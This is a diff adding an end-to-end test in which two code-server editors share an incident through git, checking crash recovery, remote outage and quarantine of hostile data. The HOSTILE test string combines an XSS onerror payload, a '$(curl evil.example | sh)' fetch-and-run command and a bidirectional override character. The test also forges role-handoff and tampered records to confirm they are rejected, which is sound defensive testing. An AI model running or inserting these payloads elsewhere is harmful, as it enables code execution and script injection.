@@ -1,0 +1,249 @@
+// Two real editors (two code-server processes, separate user-data folders, separate clones of
+// one bare repository on disk) sharing an incident through git: A declares and shares; B sees it
+// in the Incidents view, joins and adds a note; A sees B's note in its panel. Then B's extension
+// host is killed during a sync and B comes back with nothing lost; the remote is made
+// unreachable and restored; a hostile segment pushed by hand is quarantined. Screenshots of
+// both panels at each step (test-output/screenshots/team-*.png).
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { randomBytes, createHash } from 'node:crypto';
+import { readFileSync, renameSync, rmSync } from 'node:fs';
+import { join } from 'node:path';
+import { descendantsOf, extensionHostPid, makeWorkspace, processTable, tempDir } from '../harness/codeServer.mjs';
+import { openWorkbench } from '../harness/workbench.mjs';
+
+const SETTINGS = { 'oncall.incidents.share': 'git', 'oncall.incidents.shareFetchSeconds': 2 };
+const TITLE = 'Payments API returns 502';
+const HOSTILE = '<img src=x onerror="window.__xss=1"> $(curl evil.example | sh) \u202Eevil';
+
+const git = (cwd, ...args) => execFileSync('git', args, { cwd, encoding: 'utf8', stdio: ['pipe', 'pipe', 'pipe'] }).trim();
+
+/** A bare repository on disk and two clones of it, one per responder. */
+function teamRepos() {
+  const base = tempDir('team');
+  const bare = join(base, 'team.git');
+  execFileSync('git', ['init', '--bare', '--quiet', '-b', 'main', bare]);
+  const wsA = makeWorkspace();
+  git(wsA, 'config', 'user.name', 'Ana');
+  git(wsA, 'remote', 'add', 'origin', bare);
+  git(wsA, 'push', '--quiet', 'origin', 'main');
+  const wsB = join(tempDir('ws-b'), 'runbooks');
+  execFileSync('git', ['clone', '--quiet', bare, wsB]);
+  git(wsB, 'config', 'user.name', 'Bo');
+  git(wsB, 'config', 'user.email', 'bo@example.com');
+  return { base, bare, wsA, wsB };
+}
+
+/** One journal record, as the extension writes it (checksum over the canonical event). */
+function record(event) {
+  const canonical = (v) => (Array.isArray(v) ? `[${v.map(canonical).join(',')}]` : v && typeof v === 'object' ? `{${Object.keys(v).sort().map((k) => `${JSON.stringify(k)}:${canonical(v[k])}`).join(',')}}` : JSON.stringify(v));
+  const payload = canonical(event);
+  return `{"sha256":"${createHash('sha256').update(payload).digest('hex')}","event":${payload}}\n`;
+}
+
+/** Pushes a writer segment built by hand to the bare repository. */
+function pushByHand(bare, incidentId, writer, eventsBytes, claim) {
+  const scratch = join(tempDir('scratch'), 'x.git');
+  execFileSync('git', ['init', '--bare', '--quiet', scratch]);
+  const obj = (args, input) => execFileSync('git', args, { cwd: scratch, input, encoding: 'utf8', maxBuffer: 1 << 28 }).trim();
+  const ev = obj(['hash-object', '-w', '--stdin'], eventsBytes);
+  const wr = obj(['hash-object', '-w', '--stdin'], JSON.stringify(claim));
+  const tree = obj(['mktree'], `100644 blob ${ev}\tevents.jsonl\n100644 blob ${wr}\twriter.json\n`);
+  const commit = obj(['hash-object', '-t', 'commit', '-w', '--stdin'], `tree ${tree}\nauthor M <m@x> 1 +0000\ncommitter M <m@x> 1 +0000\n\nby hand\n`);
+  execFileSync('git', ['push', '--quiet', '--force', bare, `${commit}:refs/oncall/incidents/${incidentId}/${writer}`], { cwd: scratch });
+  rmSync(scratch, { recursive: true, force: true });
+}
+
+async function pickQuickInput(page, text) {
+  const input = page.locator('.quick-input-widget input');
+  await input.waitFor({ state: 'visible', timeout: 20_000 });
+  await input.fill(text);
+  await page.waitForTimeout(400);
+  await page.keyboard.press('Enter');
+  await page.waitForTimeout(400);
+}
+
+async function palette(page, title) {
+  const input = page.locator('.quick-input-widget input');
+  await page.keyboard.press('F1');
+  if (!(await input.isVisible().catch(() => false))) {
+    await page.waitForTimeout(1000);
+    if (!(await input.isVisible().catch(() => false))) {
+      // The keyboard focus is somewhere that keeps F1: give it back to the workbench.
+      await page.locator('.activitybar').first().click({ position: { x: 20, y: 600 } }).catch(() => undefined);
+      await page.keyboard.press('F1');
+    }
+  }
+  await pickQuickInput(page, `>${title}`);
+}
+
+/** The timeline webview frame of a page (optionally not the one marked before a restart). */
+async function timelineFrame(page, { fresh = false, timeoutMs = 60_000 } = {}) {
+  const until = Date.now() + timeoutMs;
+  while (Date.now() < until) {
+    for (const f of page.frames()) {
+      try {
+        if ((await f.$('#note-input')) && (!fresh || !(await f.evaluate(() => window.__beforeRestart === true)))) return f;
+      } catch {
+        // a frame that went away meanwhile
+      }
+    }
+    await page.waitForTimeout(250);
+  }
+  throw new Error('the timeline webview did not appear');
+}
+
+async function addNote(frame, text) {
+  const box = frame.locator('#note-input textarea');
+  await box.fill(text);
+  await box.press('Enter');
+  await frame.waitForFunction((t) => [...document.querySelectorAll('#events li.type-note .body')].some((b) => b.textContent === t), text, { timeout: 30_000 });
+  await frame.waitForFunction(() => !document.querySelector('.pending-note'), undefined, { timeout: 30_000 });
+}
+
+async function waitForNote(frame, text, timeout = 90_000) {
+  await frame.waitForFunction((t) => [...document.querySelectorAll('#events li.type-note .body')].some((b) => b.textContent === t), text, { timeout });
+}
+
+/** Author shown on the row of the note with this text. */
+async function authorOf(frame, text) {
+  return frame.$$eval('#events li.type-note', (rows, t) => rows.find((r) => r.querySelector('.body')?.textContent === t)?.querySelector('.author')?.textContent, text);
+}
+
+async function shareLine(frame) {
+  return frame.$eval('.share-state', (e) => (e.hidden ? '' : e.textContent));
+}
+
+/** Kills the extension host the moment it runs a git fetch or push (the sync is under way). */
+async function killHostDuringSync(server, timeoutMs = 60_000) {
+  const host = extensionHostPid(server);
+  assert.ok(host, 'found the extension host');
+  const until = Date.now() + timeoutMs;
+  while (Date.now() < until) {
+    const git = descendantsOf(processTable(), host).find((r) => /(^|\/)git(\s|$)/.test(r.args.split(' ')[0]) && /\b(fetch|push)\b/.test(r.args));
+    if (git) {
+      process.kill(host, 'SIGKILL');
+      return { host, during: git.args };
+    }
+    await new Promise((r) => setTimeout(r, 5));
+  }
+  throw new Error('saw no sync running in the extension host');
+}
+
+function writerIdOf(server) {
+  return JSON.parse(readFileSync(join(server.userDataDir, 'User', 'globalStorage', 'oncall-runbooks.oncall-runbooks', 'writer.json'), 'utf8')).writer;
+}
+
+export const checks = [
+  {
+    name: 'two editors share an incident through a bare repository: declare and share, join, notes both ways, host killed mid-sync, remote away and back, hostile segment quarantined',
+    async run() {
+      const repos = teamRepos();
+      const a = await openWorkbench({ workspace: repos.wsA, settings: SETTINGS, theme: 'dark' });
+      const b = await openWorkbench({ workspace: repos.wsB, settings: SETTINGS, theme: 'light' });
+      const shot = (wb, name) => wb.screenshot(`team-${name}`);
+      try {
+        for (const wb of [a, b]) wb.page.on('dialog', (d) => void d.dismiss());
+
+        // A declares from the palette and shares (the modal names the remote).
+        await palette(a.page, 'On-Call: Declare Incident');
+        await pickQuickInput(a.page, TITLE);
+        await pickQuickInput(a.page, 'SEV2');
+        await pickQuickInput(a.page, 'Ana');
+        await pickQuickInput(a.page, 'Card payments fail for some users');
+        const frameA = await timelineFrame(a.page);
+        await addNote(frameA, 'Ana: error rate 14% on /pay');
+        const incidentId = (await frameA.$eval('h1.title', (h) => h.textContent)).split(':')[0];
+        assert.match(incidentId, /^INC-\d{8}-[0-9A-HJKMNP-TV-Z]{5}$/);
+        await palette(a.page, 'On-Call: Share Incident with the Team');
+        const dialog = a.page.locator('.monaco-dialog-box');
+        await dialog.waitFor({ state: 'visible', timeout: 20_000 });
+        assert.match(await dialog.innerText(), new RegExp(`Share ${incidentId} with the team through .*team\\.git`));
+        await dialog.locator('.monaco-button', { hasText: 'Share' }).first().click();
+        await frameA.waitForFunction(() => /^Shared with the team/.test(document.querySelector('.share-state')?.textContent ?? ''), undefined, { timeout: 60_000 });
+        assert.match(git(repos.bare, 'for-each-ref', '--format=%(refname)'), new RegExp(`refs/oncall/incidents/${incidentId}/w[0-9a-z]{10}`));
+        assert.equal(git(repos.bare, 'for-each-ref', '--format=%(refname)', 'refs/heads'), 'refs/heads/main', 'no branch was added');
+
+        // B sees it in the Incidents view: "SEV2 · declared by Ana … ago · Join", and joins.
+        await b.openOnCall();
+        const row = b.page.locator('.sidebar .monaco-list-row', { hasText: TITLE }).first();
+        await row.waitFor({ state: 'visible', timeout: 90_000 });
+        assert.match(await row.innerText(), /SEV2 · declared by Ana .*ago · Join/);
+        await shot(b, 'b-incidents-view-join');
+        await row.hover();
+        await row.locator('.action-label[aria-label^="Join Incident"]').click();
+        await pickQuickInput(b.page, 'commsLead');
+        const frameB = await timelineFrame(b.page);
+        await waitForNote(frameB, 'Ana: error rate 14% on /pay');
+        assert.equal(await authorOf(frameB, 'Ana: error rate 14% on /pay'), 'Ana', 'the timeline shows who wrote each event');
+        await addNote(frameB, 'Bo: the provider status page says degraded');
+
+        // A sees B's note in its panel, written by Bo.
+        await waitForNote(frameA, 'Bo: the provider status page says degraded');
+        assert.equal(await authorOf(frameA, 'Bo: the provider status page says degraded'), 'Bo');
+        await frameA.waitForFunction(() => /Communications lead: Bo/.test(document.body.textContent ?? ''), undefined, { timeout: 30_000 });
+        await shot(a, 'a-panel-sees-b');
+        await shot(b, 'b-panel-joined');
+
+        // B's extension host is killed during a sync; B reloads with nothing lost.
+        await addNote(frameB, 'Bo: before the crash');
+        const decoy = Buffer.concat([Buffer.from(record({ id: 'ez-1', incidentId, time: new Date().toISOString(), author: 'Big', type: 'note', text: 'x' })), randomBytes(40 * 1024 * 1024)]);
+        const killing = killHostDuringSync(b.server);
+        pushByHand(repos.bare, incidentId, 'wz000000000', decoy, { format: 1, incidentId, writer: 'wz000000000', name: 'Big' });
+        const killed = await killing;
+        await frameB.evaluate(() => (window.__beforeRestart = true));
+        await b.page.waitForTimeout(1500);
+        await palette(b.page, 'Developer: Reload Window');
+        await b.page.waitForSelector('.monaco-workbench', { timeout: 60_000 });
+        const frameB2 = await timelineFrame(b.page, { fresh: true, timeoutMs: 90_000 });
+        for (const n of ['Ana: error rate 14% on /pay', 'Bo: the provider status page says degraded', 'Bo: before the crash']) await waitForNote(frameB2, n, 60_000);
+        const hostAfter = extensionHostPid(b.server);
+        assert.ok(hostAfter && hostAfter !== killed.host, `a new extension host runs (killed during: ${killed.during})`);
+        await waitForNote(frameA, 'Bo: before the crash');
+        // The decoy was too big to read: set aside, and said so on B's panel.
+        await frameB2.waitForFunction(() => /set aside/.test(document.querySelector('.share-state')?.textContent ?? ''), undefined, { timeout: 90_000 });
+        await shot(b, 'b-panel-after-host-killed');
+
+        // The remote goes away: A's note is acknowledged, "not shared yet"; then it comes back.
+        renameSync(repos.bare, `${repos.bare}.away`);
+        await addNote(frameA, 'Ana: written while the remote is away');
+        await frameA.waitForFunction(() => /^Not shared yet \(1 event\)/.test(document.querySelector('.share-state')?.textContent ?? ''), undefined, { timeout: 60_000 });
+        const status = a.page.locator('.statusbar-item', { hasText: 'not shared yet (1)' }).first();
+        await status.waitFor({ state: 'visible', timeout: 30_000 });
+        await shot(a, 'a-panel-remote-away');
+        renameSync(`${repos.bare}.away`, repos.bare);
+        await frameA.waitForFunction(() => /^Shared with the team/.test(document.querySelector('.share-state')?.textContent ?? ''), undefined, { timeout: 90_000 });
+        await waitForNote(frameB2, 'Ana: written while the remote is away');
+
+        // A hostile segment pushed by hand: what passes is text; the rest is set aside.
+        const mallory = 'wm000000000';
+        const now = new Date().toISOString();
+        const hostile = [
+          record({ id: 'em-1', incidentId, time: now, author: HOSTILE, writer: mallory, type: 'note', text: HOSTILE }),
+          record({ id: 'em-2', incidentId, time: now, author: 'Ana', writer: writerIdOf(a.server), type: 'roleAssigned', role: 'commander', person: 'Mallory' }),
+          record({ id: 'em-3', incidentId, time: now, author: 'M', writer: mallory, type: 'note', text: 'tampered after hashing' }).replace('tampered', 'TAMPERED'),
+          'not a record at all\n',
+        ].join('');
+        pushByHand(repos.bare, incidentId, mallory, Buffer.from(hostile), { format: 1, incidentId, writer: mallory, name: HOSTILE });
+        for (const frame of [frameA, frameB2]) {
+          await waitForNote(frame, HOSTILE);
+          await frame.waitForFunction(() => /problem\(s\) in teammates' events set aside/.test(document.querySelector('.share-state')?.textContent ?? ''), undefined, { timeout: 60_000 });
+          assert.equal(await frame.evaluate(() => window.__xss), undefined, 'the hostile text ran nothing');
+          const roles = await frame.$eval('header', (h) => h.textContent);
+          assert.doesNotMatch(roles, /Incident commander: Mallory/, 'the forged handoff was not believed');
+          const bodies = await frame.$$eval('#events .body', (els) => els.map((e) => e.textContent));
+          assert.ok(!bodies.some((t) => /TAMPERED/.test(t)));
+        }
+        await frameA.evaluate(() => window.scrollTo(0, 0));
+        await frameB2.evaluate(() => window.scrollTo(0, 0));
+        await shot(a, 'a-panel-final');
+        await shot(b, 'b-panel-final');
+        assert.deepEqual([...a.pageErrors, ...b.pageErrors].filter((e) => /oncall|timeline/i.test(e)), []);
+      } finally {
+        await a.close();
+        await b.close();
+        rmSync(repos.base, { recursive: true, force: true });
+      }
+    },
+  },
+];
